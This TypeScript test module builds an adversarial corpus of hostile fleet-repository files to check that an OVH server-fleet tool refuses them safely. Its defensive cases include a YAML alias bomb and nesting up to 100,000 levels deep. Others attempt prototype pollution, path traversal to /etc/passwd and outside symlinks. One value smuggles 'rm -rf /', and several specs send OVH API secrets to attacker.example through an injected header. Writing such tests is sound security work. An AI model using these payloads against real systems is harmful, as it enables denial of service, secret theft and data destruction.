/**
 * The adversarial corpus, repository part: hostile specs, references, links, fleet.yaml files and
 * status records, each one small fleet repository beside a good server. Tried as an attacker and
 * as a careless operator would. test/adversarial/repository.test.ts runs every case through
 * `validate` and `plan` (the real adapter over HTTPS against the simulator) and checks the
 * corpus' promises: a clear diagnostic or refusal, no crash, nothing read or written outside the
 * repository, no reinstall, and the good server unaffected.
 *
 * In file texts and link targets, `$GOOD` is the good server's name, `$VICTIM` another server of
 * the account (which the hostile file tries to act on), `$GOOD_OS`/`$VICTIM_OS` the OS each runs
 * and `$OUTSIDE` a directory outside the repository whose files hold {@link MARKER}.
 */

/** Text of every file outside the repository: it must never show up in any output. */
export const MARKER = 'OUTSIDE-MARKER-7c1e0f9b';

/** What a case must produce, besides the corpus-wide promises. */
export type Expectation =
  /** An error diagnostic on `file` (with `code` when given). */
  | { kind: 'error'; file: string; code?: string }
  /** Nothing in particular beyond the corpus-wide promises (a status record, a refused link). */
  | { kind: 'no-reinstall' };

/** One hostile repository. */
export interface RepoCase {
  name: string;
  /** Files by repository path ($-placeholders substituted). A Buffer is written as is. */
  files: Record<string, string | Buffer>;
  /** Symbolic links: path in the repository → target ($OUTSIDE substituted). */
  links?: Record<string, string>;
  /** FIFOs to create (a read would block forever). */
  fifos?: readonly string[];
  expect: Expectation;
}

const HEAD = 'apiVersion: ovh-fleet/v1\nkind: Server\n';
/** A spec of the victim server with `extra` appended. */
const victim = (extra = '', os = '$VICTIM_OS'): string =>
  `${HEAD}serviceName: $VICTIM\noperatingSystem: ${os}\n${extra}`;
const H = 'servers/hostile.yaml';
const errorOn = (file: string, code?: string): Expectation =>
  code === undefined ? { kind: 'error', file } : { kind: 'error', file, code };
const spec = (name: string, text: string | Buffer): RepoCase => ({
  name: `spec: ${name}`,
  files: { [H]: text },
  expect: errorOn(H),
});
const ref = (name: string, value: string, code: string, extra: Partial<RepoCase> = {}): RepoCase => ({
  name: `ref: ${name}`,
  files: { [H]: victim(`customizations:\n  postInstallationScript: ${value}\n`), ...extra.files },
  ...(extra.links ? { links: extra.links } : {}),
  ...(extra.fifos ? { fifos: extra.fifos } : {}),
  expect: errorOn(H, code),
});
const header = (name: string, envName: string): RepoCase => ({
  name: `secret: ${name}`,
  files: {
    [H]: victim(
      'operatingSystem: byolinux_64\ncustomizations:\n  imageURL: https://attacker.example/x.qcow2\n' +
        `  httpHeaders: {X-Steal: {env: ${envName}}}\n`,
    ).replace('operatingSystem: $VICTIM_OS\n', ''),
  },
  expect: errorOn(H, 'env-not-allowed'),
});
const fleet = (name: string, text: string): RepoCase => ({
  name: `fleet.yaml: ${name}`,
  files: { 'fleet.yaml': text },
  expect: errorOn('fleet.yaml'),
});
const FLEET = 'apiVersion: ovh-fleet/v1\nkind: Fleet\n';
const STATUS = 'status/$GOOD.yaml';
const record = (name: string, text: string | Buffer, path = STATUS): RepoCase => ({
  name: `status: ${name}`,
  files: { [path]: text },
  expect: { kind: 'no-reinstall' },
});
const link = (name: string, links: Record<string, string>, expect: Expectation): RepoCase => ({
  name: `link: ${name}`,
  files: {},
  links,
  expect,
});

const nested = (open: string, close: string, depth: number): string =>
  open.repeat(depth) + '1' + close.repeat(depth);
const blockNest = (depth: number): string =>
  Array.from({ length: depth }, (_, i) => `${' '.repeat(i)}k${i}:`).join('\n') + ' 1\n';
const laughs =
  'a: &a ["x","x","x","x","x","x","x","x","x"]\n' +
  Array.from({ length: 9 }, (_, i) => {
    const prev = i === 0 ? 'a' : `l${i - 1}`;
    return `l${i}: &l${i} [*${prev},*${prev},*${prev},*${prev},*${prev},*${prev},*${prev},*${prev},*${prev}]`;
  }).join('\n') +
  '\n';

/** Hostile specs: YAML hazards, types, names. */
const SPECS: RepoCase[] = [
  spec('tab indentation', `${HEAD}serviceName: $VICTIM\noperatingSystem: $VICTIM_OS\nlabels:\n\trole: web\n`),
  spec('duplicate serviceName key', victim('serviceName: $GOOD\n')),
  spec('duplicate nested key', victim('labels:\n  a: 1\n  a: 2\n')),
  spec('alias bomb', victim(laughs)),
  spec('flow nesting 1,000 deep', victim(`labels: {x: ${nested('[', ']', 1_000)}}\n`)),
  spec('flow nesting 100,000 deep', victim(`labels: {x: ${nested('[', ']', 100_000)}}\n`)),
  spec('brace nesting 60,000 deep', victim(`x: ${nested('{a: ', '}', 60_000)}\n`)),
  spec('block nesting 300 deep', victim(blockNest(300))),
  spec('sequence nesting 2,000 deep', victim(`x: ${'- '.repeat(2_000)}1\n`)),
  spec('two documents', `${victim()}---\n${victim()}`),
  spec('!!js/function tag', victim('labels: {x: !!js/function "function(){}"}\n')),
  spec(
    '!!binary operatingSystem',
    `${HEAD}serviceName: $VICTIM\noperatingSystem: !!binary ZGViaWFuMTJfNjQ=\n`,
  ),
  spec('unknown local tag', victim('labels: !evil {a: b}\n')),
  spec(
    'merge key with alias',
    `base: &b {operatingSystem: $VICTIM_OS}\n${HEAD}serviceName: $VICTIM\n<<: *b\n`,
  ),
  spec('NUL byte', Buffer.from(`${HEAD}serviceName: $VICTIM\0\noperatingSystem: x\n`)),
  spec(
    'invalid UTF-8',
    Buffer.concat([Buffer.from(victim('labels: {a: "')), Buffer.from([0xc3, 0x28]), Buffer.from('"}\n')]),
  ),
  spec('UTF-16 text', Buffer.from(`\ufeff${victim()}`, 'utf16le')),
  spec('a line of 300,000 characters', victim(`labels: {a: "${'x'.repeat(300_000)}"}\n`)),
  spec('empty file', ''),
  spec('comments only', '# nothing here\n'),
  spec('a scalar document', 'just a string\n'),
  spec('a sequence document', '- a\n- b\n'),
  spec('__proto__ at the top', victim('__proto__: {protect: false, polluted: yes}\n')),
  spec('constructor.prototype', victim('constructor: {prototype: {polluted: yes}}\n')),
  spec('__proto__ in customizations', victim('customizations:\n  __proto__: {hostname: evil}\n')),
  spec('__proto__ in labels', victim('labels:\n  __proto__: {role: web}\n')),
  spec('serviceName a number', `${HEAD}serviceName: 12345\noperatingSystem: debian12_64\n`),
  spec('serviceName with ../', `${HEAD}serviceName: a/../../../tmp/x\noperatingSystem: debian12_64\n`),
  spec('serviceName absolute', `${HEAD}serviceName: /etc/passwd\noperatingSystem: debian12_64\n`),
  spec(
    'serviceName with a newline',
    `${HEAD}serviceName: "ns1.eu\\nFleet-Server: $GOOD"\noperatingSystem: debian12_64\n`,
  ),
  spec('serviceName empty', `${HEAD}serviceName: ""\noperatingSystem: debian12_64\n`),
  spec('serviceName with NUL', `${HEAD}serviceName: "ns1\\0.eu"\noperatingSystem: debian12_64\n`),
  spec(
    'serviceName 10,000 characters',
    `${HEAD}serviceName: ${'n'.repeat(10_000)}\noperatingSystem: debian12_64\n`,
  ),
  spec(
    'serviceName homoglyph of the good server',
    `${HEAD}serviceName: $GOOD_HOMOGLYPH\noperatingSystem: debian12_64\n`,
  ),
  spec(
    'serviceName with a trailing Unicode space',
    `${HEAD}serviceName: "$VICTIM\u3000"\noperatingSystem: $VICTIM_OS\n`,
  ),
  spec('operatingSystem with ../', victim('', '../../etc/passwd')),
  spec('operatingSystem with shell text', victim('', '"debian12_64; rm -rf /"')),
  spec('operatingSystem with a trailing no-break space', victim('', '"$VICTIM_OS\u00a0"')),
  spec('apiVersion v2', victim().replace('ovh-fleet/v1', 'ovh-fleet/v2')),
  spec('kind Fleet', victim().replace('kind: Server', 'kind: Fleet')),
  spec('generation negative', victim('reinstall: {generation: -1}\n')),
  spec('generation 1.5', victim('reinstall: {generation: 1.5}\n')),
  spec('generation 1e308', victim('reinstall: {generation: 1e308}\n')),
  spec('generation .inf', victim('reinstall: {generation: .inf}\n')),
  spec('generation .nan', victim('reinstall: {generation: .nan}\n')),
  spec('generation a string', victim('reinstall: {generation: "2"}\n')),
  spec('generation a timestamp', victim('reinstall: {generation: 2001-12-14}\n')),
  spec('protect a string', victim('reinstall: {protect: "false"}\n')),
  spec('protect: yes (YAML 1.1)', victim('reinstall: {protect: yes}\n')),
  spec(
    'storage of 20,000 groups',
    victim(`storage: [${Array.from({ length: 20_000 }, () => '{diskGroupId: 1}').join(',')}]\n`),
  ),
  spec('storage diskGroupId negative', victim('storage:\n  - diskGroupId: -1\n')),
  spec('unknown customization', victim('customizations:\n  rootPassword: hunter2\n')),
  spec('label value an object', victim('labels: {role: {nested: true}}\n')),
  spec('key with a no-break space', `${HEAD}serviceName: $VICTIM\n"operatingSystem\u00a0": $VICTIM_OS\n`),
  spec('complex mapping key', victim('? [a, b]\n: c\n')),
  {
    name: 'spec: %YAML 1.1 directive (protect: off would read as false)',
    files: { [H]: `%YAML 1.1\n---\n${victim('reinstall: {protect: off}\n')}` },
    expect: errorOn(H, 'yaml-version-unsupported'),
  },
  spec(
    '60,000 keys',
    victim(`labels: {${Array.from({ length: 60_000 }, (_, i) => `k${i}: v`).join(', ')}}\n`),
  ),
];

/** Hostile references and secrets. */
const REFS: RepoCase[] = [
  ref('parent escape', '{file: ../../outside/secret.txt}', 'ref-outside-repo'),
  ref('absolute path outside', '{file: $OUTSIDE/secret.txt}', 'ref-outside-repo'),
  ref('/dev/zero', '{file: /dev/zero}', 'ref-outside-repo'),
  ref('a status record', '{file: status/$GOOD.yaml}', 'ref-forbidden-path', { files: { [STATUS]: '# x\n' } }),
  ref('FLEET.md', '{file: status/FLEET.md}', 'ref-forbidden-path', {
    files: { 'status/FLEET.md': '# fleet\n' },
  }),
  ref('.git/config', '{file: .git/config}', 'ref-forbidden-path', { files: { '.git/config': '[core]\n' } }),
  ref('a file link to outside', '{file: scripts/evil.sh}', 'symlink-refused', {
    links: { 'scripts/evil.sh': '$OUTSIDE/secret.txt' },
  }),
  ref('through a folder link', '{file: scripts/out/secret.txt}', 'symlink-refused', {
    links: { 'scripts/out': '$OUTSIDE' },
  }),
  ref('scripts/ itself a link', '{file: scripts/secret.txt}', 'symlink-refused', {
    links: { scripts: '$OUTSIDE' },
  }),
  ref('dot-dot inside the path', '{file: scripts/../../outside/secret.txt}', 'ref-outside-repo'),
  ref('a FIFO', '{file: scripts/fifo}', 'ref-not-file', { fifos: ['scripts/fifo'] }),
  ref('a directory', '{file: scripts}', 'ref-not-file', { files: { 'scripts/a.sh': 'echo\n' } }),
  ref('an empty path', '{file: ""}', 'schema-reference'),
  ref('a NUL in the path', '{file: "scripts/a\\0b"}', 'ref-outside-repo'),
  ref('a Windows path', '{file: "C:\\\\Windows\\\\win.ini"}', 'ref-outside-repo'),
  ref('a nested object', '{file: {path: scripts/a.sh}}', 'schema-type'),
  ref('file and env at once', '{file: scripts/a.sh, env: HOME}', 'schema-reference', {
    files: { 'scripts/a.sh': 'echo\n' },
  }),
  ref('a file over the size limit', '{file: scripts/big.sh}', 'ref-too-large', {
    files: { 'scripts/big.sh': '#'.repeat(40_000) },
  }),
  ref('env with a semicolon', '{env: "A;B"}', 'schema-reference'),
  ref('env empty', '{env: ""}', 'schema-reference'),
  header('the consumer key', 'OVH_CONSUMER_KEY'),
  header('the application secret', 'OVH_APPLICATION_SECRET'),
  header('the OAuth2 client secret', 'OVH_CLIENT_SECRET'),
  header('PATH', 'PATH'),
  header('NODE_OPTIONS', 'NODE_OPTIONS'),
  header('the state directory setting', 'OVH_FLEET_STATE_DIR'),
  header('the credentials directory', 'CREDENTIALS_DIRECTORY'),
];

/** Links on the way to what the reader reads. */
const LINKS: RepoCase[] = [
  link('servers/ is a link', { servers: '$OUTSIDE' }, errorOn('servers', 'symlink-refused')),
  link(
    'fleet.yaml is a link',
    { 'fleet.yaml': '$OUTSIDE/fleet.yaml' },
    errorOn('fleet.yaml', 'symlink-refused'),
  ),
  link('status/ is a link', { status: '$OUTSIDE' }, errorOn('status', 'symlink-refused')),
  link('a spec is a link', { [H]: '$OUTSIDE/victim.yaml' }, errorOn(H, 'symlink-refused')),
  link(
    'a sub-folder of servers/ is a link',
    { 'servers/sub': '$OUTSIDE' },
    errorOn('servers/sub', 'symlink-refused'),
  ),
  link('a link loop', { 'servers/loop': 'loop' }, errorOn('servers/loop', 'symlink-refused')),
  link(
    "the good server's status record is a link",
    { [STATUS]: '$OUTSIDE/status.yaml' },
    { kind: 'no-reinstall' },
  ),
  link(
    'a dangling link',
    { 'servers/gone.yaml': '/nonexistent/x.yaml' },
    errorOn('servers/gone.yaml', 'symlink-refused'),
  ),
];

/** Hostile fleet policies. */
const FLEETS: RepoCase[] = [
  fleet('maxFailures negative', `${FLEET}rollout: {maxFailures: -1}\n`),
  fleet('maxFleetFraction 2', `${FLEET}rollout: {maxFleetFraction: 2}\n`),
  fleet('maxConcurrent a string', `${FLEET}rollout: {maxConcurrent: "all"}\n`),
  fleet('a garbage cron', `${FLEET}rollout:\n  windows: [{cron: "* * * * * * *", duration: 1h}]\n`),
  fleet(
    '10,000 windows',
    `${FLEET}rollout:\n  windows: [${Array.from({ length: 10_000 }, () => '{cron: "0 2 * * 6", duration: 1x}').join(',')}]\n`,
  ),
  fleet(
    'a timezone path',
    `${FLEET}rollout:\n  windows: [{cron: "0 2 * * 6", duration: 1h, timezone: ../../etc/localtime}]\n`,
  ),
  fleet(
    'an absurd duration',
    `${FLEET}rollout:\n  windows: [{cron: "0 2 * * 6", duration: 99999999999999999999h}]\n`,
  ),
  fleet('suspend until not a date', `${FLEET}suspend: {reason: x, until: tomorrow}\n`),
  fleet('acknowledgedPlanHashes an object', `${FLEET}acknowledgedPlanHashes: {a: b}\n`),
  fleet('drift: destroy', `${FLEET}drift: destroy\n`),
  fleet('requestsPerMinute negative', `${FLEET}api: {requestsPerMinute: -5}\n`),
  fleet('nested 100,000 deep', `${FLEET}rollout: ${nested('[', ']', 100_000)}\n`),
  fleet('alias bomb', `${FLEET}${laughs}`),
  fleet('an unknown key', `${FLEET}rollout: {maxConcurent: 5}\n`),
  fleet('kind Server', 'apiVersion: ovh-fleet/v1\nkind: Server\n'),
  fleet('__proto__', `${FLEET}__proto__: {suspend: {reason: ""}}\n`),
];

/** Hostile status records (the fleet's memory of what was applied). */
const RECORDS: RepoCase[] = [
  record('garbage text', 'this is : not : a record\n\t- x\n'),
  record(
    'nested 100,000 deep',
    `apiVersion: ovh-fleet/v1\nkind: ServerStatus\nx: ${nested('[', ']', 100_000)}\n`,
  ),
  record('alias bomb', laughs),
  record(
    "another server's record",
    'apiVersion: ovh-fleet/v1\nkind: ServerStatus\nserviceName: $VICTIM\nphase: ready\n',
  ),
  record(
    'a digest that is not sha256',
    'apiVersion: ovh-fleet/v1\nkind: ServerStatus\nserviceName: $GOOD\nlastApplied: {digest: "md5:x"}\n',
  ),
  record('over the size limit', `# ${'x'.repeat(300_000)}\n`),
  record('invalid UTF-8', Buffer.from([0x61, 0x3a, 0x20, 0xff, 0xfe, 0x0a])),
  record(
    'a crafted file name',
    'apiVersion: ovh-fleet/v1\nkind: ServerStatus\nserviceName: "../x"\n',
    'status/..yaml',
  ),
  record('__proto__', 'apiVersion: ovh-fleet/v1\nkind: ServerStatus\n__proto__: {lastApplied: null}\n'),
  record(
    'a record of a server with no spec, named with ../',
    'apiVersion: ovh-fleet/v1\nkind: ServerStatus\nserviceName: a/../../b\n',
    'status/a%2f..yaml',
  ),
];

/** Every repository case (at least 100: the floor). */
export const REPO_CASES: readonly RepoCase[] = [...SPECS, ...REFS, ...LINKS, ...FLEETS, ...RECORDS];
